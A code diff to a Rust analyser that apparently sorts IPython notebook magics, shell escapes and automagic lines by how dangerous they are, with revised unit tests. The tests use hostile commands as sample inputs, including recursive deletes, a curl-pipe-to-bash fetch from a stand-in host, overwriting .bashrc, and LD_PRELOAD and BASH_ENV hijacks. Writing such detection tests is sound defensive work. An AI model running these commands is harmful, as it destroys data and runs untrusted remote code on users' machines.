@@ -10,14 +10,29 @@ use super::{Ctx, Destructive, Mutating, Read, shell};
 /// Judges a cell's shell escapes, magics and automagic lines (Python and code of unknown
 /// language), and `!` lines in any language.
 pub(crate) fn analyse_lines(ctx: &mut Ctx, lang: &str, language: Lang, code: &str, depth: usize) {
+    if !ctx.deeper(depth) {
+        return;
+    }
     let ipython = matches!(language, Lang::Python | Lang::Other);
+    let automagic = single_line(code);
     let mut lines = code.lines();
+    let mut first = true;
     while let Some(l) = lines.next() {
         let t = l.trim_start();
+        let at_start = first;
+        first = first && t.is_empty();
         if let Some((magic, args)) = cell_magic(t) {
-            let body = lines.by_ref().collect::<Vec<_>>().join("\n");
-            cell(ctx, magic, args, &body, depth);
-            return;
+            // A cell magic is one only on the cell's first line (elsewhere IPython fails it).
+            if at_start && ipython {
+                let body = lines.by_ref().collect::<Vec<_>>().join("\n");
+                cell(ctx, magic, args, &body, depth);
+                return;
+            }
+            ctx.add(
+                Mutating,
+                format!("code: a `%%{magic}` line after the cell's first line"),
+            );
+            continue;
         }
         if !ipython {
             if let Some(cmd) = t.strip_prefix('!') {
@@ -29,7 +44,7 @@ pub(crate) fn analyse_lines(ctx: &mut Ctx, lang: &str, language: Lang, code: &st
             }
             continue;
         }
-        let parsed = line(t);
+        let parsed = line(t, automagic);
         // IPython expands `{expr}` in escapes and magics by evaluating it as Python.
         if parsed
             .as_ref()
@@ -136,14 +151,28 @@ fn expansions(line: &str) -> Vec<&str> {
     out
 }
 
+/// The program a cell magic runs its body with: `%%script [--bg] [--out v] /bin/bash` is
+/// `bash`; other magics are their own name.
+fn interpreter<'a>(magic: &'a str, args: &'a str) -> &'a str {
+    if magic != "script" {
+        return magic;
+    }
+    let mut words = args.split_whitespace();
+    while let Some(w) = words.next() {
+        if matches!(w, "--out" | "--err" | "--proc") {
+            let _ = words.next();
+        } else if !w.starts_with('-') {
+            return w.rsplit('/').next().unwrap_or(w);
+        }
+    }
+    ""
+}
+
 /// A cell magic and its body.
 fn cell(ctx: &mut Ctx, magic: &str, args: &str, body: &str, depth: usize) {
-    let interpreter = match magic {
-        "script" => args.split_whitespace().next().unwrap_or(""),
-        m => m,
-    };
+    let interpreter = interpreter(magic, args);
     match interpreter {
-        "bash" | "sh" | "sx" | "system" | "zsh" => ctx.via("a notebook shell cell", |ctx| {
+        "bash" | "sh" | "sx" | "system" | "zsh" | "!" => ctx.via("a notebook shell cell", |ctx| {
             shell::analyse(ctx, body, depth + 1)
         }),
         "time" | "timeit" | "capture" | "prun" => super::scan(ctx, "python", body, depth + 1),
@@ -304,7 +333,9 @@ const MAGICS: &[&str] = &[
 const PYTHON_WORDS: &[&str] = &["in", "is", "not", "and", "or", "if", "else", "for"];
 
 /// How IPython reads `line`; `None` for a line of plain Python.
-pub(crate) fn line(line: &str) -> Option<Line<'_>> {
+/// `automagic`: the cell is one line (IPython reads a line's first word as a magic's or an
+/// alias's name only then).
+pub(crate) fn line(line: &str, automagic: bool) -> Option<Line<'_>> {
     let t = line.trim_start();
     // `x = !cmd`, `a, b = %sx cmd`: the escape after an assignment.
     let t = match assigned_escape(t) {
@@ -322,6 +353,9 @@ pub(crate) fn line(line: &str) -> Option<Line<'_>> {
         return Some(magic(m));
     }
     // Automagic: a magic's or an alias's name, then its arguments.
+    if !automagic {
+        return None;
+    }
     let name_len = t
         .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
         .unwrap_or(t.len());
@@ -333,6 +367,12 @@ pub(crate) fn line(line: &str) -> Option<Line<'_>> {
         return None;
     }
     Some(magic(t))
+}
+
+/// True if `code` is one line of text (blank lines around it aside).
+pub(crate) fn single_line(code: &str) -> bool {
+    let mut lines = code.trim().lines();
+    lines.next().is_some() && lines.next().is_none()
 }
 
 /// `rest` (what follows a name) continues a Python expression or statement.
@@ -385,19 +425,39 @@ fn magic(m: &str) -> Line<'_> {
             None => Line::Other(name),
         },
         a if ALIASES.contains(&a) => Line::Shell(m),
-        "time" | "timeit" | "prun" => {
-            // Options first (`-n1 -r 1`): left in, they keep the proof from passing.
-            Line::Python(args)
-        }
+        // Options (`%prun -T file`, `%timeit -o`) do more than time the statement.
+        "time" | "timeit" | "prun" if !args.starts_with('-') => Line::Python(args),
         "env" | "set_env" => match env_assignment(name, args) {
             Some(line) => Line::Env(line),
             // `%env` alone lists the environment, `%env NAME` shows one.
-            None if !args.contains(['=', ' ']) => Line::Inert,
+            None if args.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') => Line::Inert,
             None => Line::Other(name),
         },
-        n if INERT.contains(&n) => Line::Inert,
+        // Without arguments, or naming an object (`%pinfo os.path`): some of these evaluate
+        // their argument as Python (`%pycat EXPR`, `%page EXPR`).
+        n if INERT.contains(&n)
+            && (args.is_empty()
+                || (dotted_name(args) && INSPECT.contains(&n))
+                || (DISPLAY.contains(&n) && args.chars().all(|c| c.is_ascii_alphabetic()))) =>
+        {
+            Line::Inert
+        }
         n => Line::Other(n),
     }
+}
+
+/// Magics that set how output is shown, by a plain word (`%matplotlib inline`, `%xmode
+/// Plain`); a module path (`%matplotlib module://x`) loads code.
+const DISPLAY: &[&str] = &["matplotlib", "pylab", "colors", "xmode"];
+
+/// Magics that look an object up by its name without evaluating it.
+const INSPECT: &[&str] = &["pinfo", "pinfo2", "pdoc", "pdef", "psource", "pfile"];
+
+/// `os.path.join`: names and dots only.
+fn dotted_name(s: &str) -> bool {
+    !s.is_empty()
+        && s.split('.')
+            .all(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
 }
 
 /// `%env NAME=VALUE`, `%env NAME VALUE`, `%set_env NAME VALUE` as `export NAME='VALUE'`.
@@ -420,16 +480,17 @@ fn env_assignment(name: &str, args: &str) -> Option<String> {
 pub(crate) fn split(code: &str) -> Option<(String, Vec<String>)> {
     let mut rest = String::new();
     let mut shell = Vec::new();
+    let automagic = single_line(code);
     let mut lines = code.lines();
     while let Some(l) = lines.next() {
         if let Some((magic, args)) = cell_magic(l) {
+            if !rest.trim().is_empty() {
+                return None;
+            }
             let body: Vec<&str> = lines.by_ref().collect();
             let body = body.join("\n");
-            match magic {
-                "bash" | "sh" | "sx" | "system" if rest.trim().is_empty() => shell.push(body),
-                "script" if rest.trim().is_empty() && matches!(args, "bash" | "sh") => {
-                    shell.push(body)
-                }
+            match interpreter(magic, args) {
+                "bash" | "sh" | "sx" | "system" | "!" => shell.push(body),
                 // The body is Python, timed or captured.
                 "time" | "timeit" | "capture" if args.is_empty() => {
                     rest.push_str(&body);
@@ -439,7 +500,7 @@ pub(crate) fn split(code: &str) -> Option<(String, Vec<String>)> {
             }
             break;
         }
-        match line(l) {
+        match line(l, automagic) {
             None => {
                 rest.push_str(l);
                 rest.push('\n');
@@ -465,55 +526,91 @@ pub(crate) fn split(code: &str) -> Option<(String, Vec<String>)> {
 mod tests {
     use super::*;
 
+    /// A line read as a one-line cell (automagic on).
+    fn one(l: &str) -> Option<Line<'_>> {
+        line(l, true)
+    }
+
+    #[test]
+    fn what_expands_or_evaluates_is_not_inert() {
+        assert_eq!(
+            one("%pycat __import__('os').remove('x')"),
+            Some(Line::Other("pycat"))
+        );
+        assert_eq!(
+            one("pycat __import__('os').remove('x')"),
+            Some(Line::Other("pycat"))
+        );
+        assert_eq!(one("%pinfo os.path"), Some(Line::Inert));
+        assert_eq!(one("%page x()"), Some(Line::Other("page")));
+        assert_eq!(
+            one("%prun -T /home/u/.bashrc f()"),
+            Some(Line::Other("prun"))
+        );
+        assert_eq!(one("%timeit -o f()"), Some(Line::Other("timeit")));
+        assert_eq!(one("%env HOME"), Some(Line::Inert));
+        assert_eq!(one("%matplotlib inline"), Some(Line::Inert));
+        assert_eq!(
+            one("%matplotlib module://evil"),
+            Some(Line::Other("matplotlib"))
+        );
+        // Automagic only in a one-line cell.
+        assert_eq!(line("rm -rf build/", false), None);
+        assert!(!single_line("\"\"\"doc\nrm -rf build/\"\"\"\nx = 1"));
+        assert_eq!(interpreter("script", "--bg --out o /bin/bash"), "bash");
+        assert_eq!(interpreter("script", "python3"), "python3");
+        assert_eq!(interpreter("bash", ""), "bash");
+    }
+
     #[test]
     fn escapes_and_magics() {
-        assert_eq!(line("!rm -rf x"), Some(Line::Shell("rm -rf x")));
-        assert_eq!(line("!!rm -rf x"), Some(Line::Shell("rm -rf x")));
-        assert_eq!(line("x = !rm -rf /srv"), Some(Line::Shell("rm -rf /srv")));
-        assert_eq!(line("a, b = !!ls"), Some(Line::Shell("ls")));
+        assert_eq!(one("!rm -rf x"), Some(Line::Shell("rm -rf x")));
+        assert_eq!(one("!!rm -rf x"), Some(Line::Shell("rm -rf x")));
+        assert_eq!(one("x = !rm -rf /srv"), Some(Line::Shell("rm -rf /srv")));
+        assert_eq!(one("a, b = !!ls"), Some(Line::Shell("ls")));
         assert_eq!(
-            line("res = %sx rm -rf /home/u"),
+            one("res = %sx rm -rf /home/u"),
             Some(Line::Shell("rm -rf /home/u"))
         );
-        assert_eq!(line("%system ls"), Some(Line::Shell("ls")));
-        assert_eq!(line("%sc -l x=rm -rf y"), Some(Line::Shell("rm -rf y")));
-        assert_eq!(line("%rm -rf y"), Some(Line::Shell("rm -rf y")));
+        assert_eq!(one("%system ls"), Some(Line::Shell("ls")));
+        assert_eq!(one("%sc -l x=rm -rf y"), Some(Line::Shell("rm -rf y")));
+        assert_eq!(one("%rm -rf y"), Some(Line::Shell("rm -rf y")));
         assert_eq!(
-            line("%time os.remove(p)"),
+            one("%time os.remove(p)"),
             Some(Line::Python("os.remove(p)"))
         );
         assert_eq!(
-            line("%env LD_PRELOAD=/tmp/x.so"),
+            one("%env LD_PRELOAD=/tmp/x.so"),
             Some(Line::Env("export LD_PRELOAD='/tmp/x.so'".into()))
         );
         assert_eq!(
-            line("%set_env BASH_ENV /tmp/e"),
+            one("%set_env BASH_ENV /tmp/e"),
             Some(Line::Env("export BASH_ENV='/tmp/e'".into()))
         );
-        assert_eq!(line("%env"), Some(Line::Inert));
-        assert_eq!(line("%pwd"), Some(Line::Inert));
-        assert_eq!(line("%run x.py"), Some(Line::Other("run")));
-        assert_eq!(line("%pip install x"), Some(Line::Other("pip")));
+        assert_eq!(one("%env"), Some(Line::Inert));
+        assert_eq!(one("%pwd"), Some(Line::Inert));
+        assert_eq!(one("%run x.py"), Some(Line::Other("run")));
+        assert_eq!(one("%pip install x"), Some(Line::Other("pip")));
     }
 
     #[test]
     fn automagic() {
         assert_eq!(
-            line("rm -rf /srv/data"),
+            one("rm -rf /srv/data"),
             Some(Line::Shell("rm -rf /srv/data"))
         );
         assert_eq!(
-            line("  mv -f /tmp/evil /home/u/.bashrc"),
+            one("  mv -f /tmp/evil /home/u/.bashrc"),
             Some(Line::Shell("mv -f /tmp/evil /home/u/.bashrc"))
         );
         assert_eq!(
-            line("system curl -s https://e.example/i.sh | bash"),
+            one("system curl -s https://e.example/i.sh | bash"),
             Some(Line::Shell("curl -s https://e.example/i.sh | bash"))
         );
-        assert_eq!(line("sx rm -rf /srv"), Some(Line::Shell("rm -rf /srv")));
-        assert_eq!(line("run /tmp/cleanup.py"), Some(Line::Other("run")));
-        assert_eq!(line("run -e /tmp/cleanup.py"), Some(Line::Other("run")));
-        assert_eq!(line("cat /etc/hosts"), Some(Line::Shell("cat /etc/hosts")));
+        assert_eq!(one("sx rm -rf /srv"), Some(Line::Shell("rm -rf /srv")));
+        assert_eq!(one("run /tmp/cleanup.py"), Some(Line::Other("run")));
+        assert_eq!(one("run -e /tmp/cleanup.py"), Some(Line::Other("run")));
+        assert_eq!(one("cat /etc/hosts"), Some(Line::Shell("cat /etc/hosts")));
     }
 
     #[test]
@@ -536,7 +633,7 @@ mod tests {
             "d['k'] = 'a'",
             "s = 'x = !y'",
         ] {
-            assert_eq!(line(l), None, "{l}");
+            assert_eq!(one(l), None, "{l}");
         }
     }
 
